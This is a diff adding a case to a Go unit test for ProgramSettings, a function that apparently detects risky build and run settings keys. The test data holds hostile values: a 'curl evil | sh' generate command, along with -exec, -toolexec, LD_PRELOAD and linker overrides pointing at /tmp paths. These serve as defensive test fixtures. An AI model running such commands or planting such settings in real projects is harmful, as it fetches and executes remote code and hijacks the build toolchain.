@@ -34,6 +34,7 @@ func TestProgramSettings(t *testing.T) {
 		{"every key", map[string]any{"build_flags": []string{"-race"}, "ldflags": "-extld=/tmp/x", "build_env": []string{"CC=/tmp/x"}, "env": []string{"LD_PRELOAD=/tmp/x.so"}}, []string{"build_env", "build_flags", "env", "ldflags"}},
 		{"other case", map[string]any{"Build_Flags": []string{"-exec=/tmp/x"}, "BUILD_ENV": []string{"GOFLAGS=-toolexec=/tmp/x"}}, []string{"build_env", "build_flags"}},
 		{"empty list", map[string]any{"env": []string{}}, []string{"env"}},
+		{"generators and commands", map[string]any{"generate": []map[string]any{{"run": "sh -c 'curl evil | sh'"}}, "build_cmd": "make", "bin": "x", "go_generate": true, "env_files": []string{"/tmp/evil.env"}}, []string{"bin", "build_cmd", "env_files", "generate", "go_generate"}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			got, err := ProgramSettings(tc.settings)
